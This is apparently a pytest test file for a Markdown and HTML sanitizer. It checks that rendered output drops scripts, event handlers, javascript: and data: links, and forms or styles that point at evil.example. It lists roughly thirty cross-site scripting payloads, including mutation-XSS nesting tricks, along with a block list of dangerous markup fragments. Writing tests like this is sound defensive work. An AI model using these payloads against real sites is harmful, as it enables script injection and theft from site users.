from __future__ import annotations

import sys
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explainer.text import markdown
from explainer.text.markdown import find_headings, render_inline, render_markdown, sanitize_markup

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>x</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='javascript:1'>x</a>",
    "<a href='java\tscript:1'>x</a>",
    "<a href='JaVa&#x09;ScRiPt:alert(1)'>x</a>",
    "<a href=' data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='da&#10;ta:text/html,<script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form action='https://evil.example'><input name=a></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)' onclick='x()'>x</p>",
    "<object data='x'></object><embed src='x'><base href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,AAAA'>",
    "<div data-commandlinker-command='x' data-commandlinker-args='{}'>x</div>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[r]\n\n[r]: javascript:alert(1)",
]
BAD = [
    "<script",
    "onerror=",
    "onload=",
    "onclick=",
    'href="javascript',
    'href="data:',
    "<iframe",
    "<form",
    "<style",
    " style=",
    "<object",
    "<embed",
    "<base",
    "<meta",
    "vbscript:",
    'src="data:',
    'src="javascript',
    "commandlinker",
    "formaction",
    "srcdoc=",
]


@pytest.fixture(params=["nh3", "bleach"])
def sanitizer(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Sanitize as on a server, or as in a browser, which has no nh3."""
    if request.param == "bleach":
        monkeypatch.setitem(sys.modules, "nh3", None)
    markdown._render_short_text.cache_clear()
    yield
    markdown._render_short_text.cache_clear()


@pytest.mark.usefixtures("sanitizer")
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_code_is_run(attack: str) -> None:
    """No script, frame, style, event or dangerous address survives, in Markdown or in markup."""
    text = (render_markdown(attack), render_inline(attack))
    assert "<svg" not in "".join(text).lower()
    for html in (*text, sanitize_markup(attack)):
        tags = "".join(part.split(">")[0] + ">" for part in f"<{html}".split("<")[1:])
        assert not [bad for bad in BAD if bad in f"<{tags}".lower() and bad[0] != "<"]
        assert not [bad for bad in BAD if bad[0] == "<" and bad in html.lower()]


@pytest.mark.usefixtures("sanitizer")
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Some *words*", "<p>Some <em>words</em></p>\n"),
        ("~~no~~", "<p><s>no</s></p>\n"),
        ("# Birds", "<h1>Birds</h1>\n"),
        (
            "[x](#study-able2014)",
            '<p><a href="#study-able2014" rel="noopener noreferrer">x</a></p>\n',
        ),
        ("[x](plain.ipynb#a)", '<p><a href="plain.ipynb#a" rel="noopener noreferrer">x</a></p>\n'),
        ("H<sub>2</sub>O<br>x", "<p>H<sub>2</sub>O<br>x</p>\n"),
        ("<u id='x' class='y'>x</u>", "<p><u>x</u></p>\n"),
        ("```python\na < b\n```", '<pre><code class="language-python">a &lt; b\n</code></pre>\n'),
        ("", ""),
    ],
)
def test_html_of_markdown(text: str, html: str) -> None:
    """Markdown becomes HTML without ids, and only harmless raw HTML is kept."""
    assert render_markdown(text) == html


def test_table_alignment_needs_no_style() -> None:
    """A table's alignment is a class, for pages whose rules forbid inline style."""
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_inline_html() -> None:
    """One line of Markdown becomes HTML without a paragraph."""
    assert render_inline("*a* <https://birds.example>") == (
        '<em>a</em> <a href="https://birds.example" rel="noopener noreferrer">'
        "https://birds.example</a>"
    )


OURS = (
    '<nav aria-label="Sections" class="n"><ol><li><a href="#a" rel="next" hreflang="en">A</a></li>'
    '</ol><button type="button" disabled="" aria-pressed="false">Next</button></nav>'
    '<section id="a" lang="ar" dir="rtl" role="region" tabindex="-1" data-page="x" hidden="">'
    '<details open="" class="study" id="study-k"><summary>Able</summary><dl><dt>Year</dt>'
    '<dd><time datetime="2014">2014</time></dd></dl></details><figure>'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x"><figcaption>x</figcaption></figure>'
    '<table><caption>c</caption><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody>'
    '<tr><td rowspan="2">1</td></tr></tbody></table><p title="t"><abbr title="a">a</abbr><cite>c'
    "</cite><q>q</q><mark>m</mark><kbd>k</kbd><small>s</small><sup>1</sup></p><hr></section>"
)


@pytest.mark.usefixtures("sanitizer")
def test_our_own_markup_is_unchanged() -> None:
    """The markup of navigation, cards and tables is unchanged, byte for byte."""
    assert sanitize_markup(OURS) == OURS


@pytest.mark.parametrize(
    "source", ["bird.png", "https://birds.example/b.png", "data:image/webp;base64,AAAA"]
)
def test_pictures_are_kept(source: str) -> None:
    """A picture may be a file, a web address or base64 data of a picture's type."""
    assert source in sanitize_markup(f'<img src="{source}" alt="x">')


def test_top_headings() -> None:
    """Headings are found with their lines, but not in code, lists and quotations."""
    headings = find_headings("# A\n\n```\n# no\n```\n\n- # no\n\n> # no\n\nB\nb\n---\n\n### C ###")
    assert [(item.level, item.title, item.line, item.end) for item in headings] == [
        (1, "A", 0, 1),
        (2, "B\nb", 10, 13),
        (3, "C", 14, 15),
    ]


@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "script",
                "</script>",
                "<img ",
                "src=",
                "onerror=",
                '"',
                "'",
                "javascript:",
                "x",
                "<!--",
                "-->",
                "<svg>",
                "<math>",
                "<a href=",
                "&#",
                "[x](",
                ")",
                "`",
                "\n",
                "<style>",
                "\x00",
            ]
        ),
        max_size=20,
    ).map("".join)
)
def test_no_text_makes_a_script(text: str) -> None:
    """No mix of tags and characters makes a script, and sanitizing twice changes nothing."""
    for html in (render_markdown(text), sanitize_markup(text)):
        assert "<script" not in html.lower()
        assert sanitize_markup(sanitize_markup(html)) == sanitize_markup(html)


def test_boxes_of_tasks_are_labelled() -> None:
    """A screen reader announces whether a task is done; an escaped bracket is text."""
    html = render_markdown("- [ ] a *b*\n- [x] c\n- \\[ ] d")
    assert '<li><label><input disabled="" type="checkbox"> a <em>b</em></label></li>' in html
    assert '<input disabled="" checked="" type="checkbox"> c</label>' in html
    assert "<li>[ ] d</li>" in html


def test_input_of_others_is_only_a_box() -> None:
    """No text of a page makes a field that takes input or runs code."""
    html = render_markdown('a <input type="text" name="x" value="y" autofocus onfocus="z()">')
    assert html == '<p>a <input type="checkbox"></p>\n'
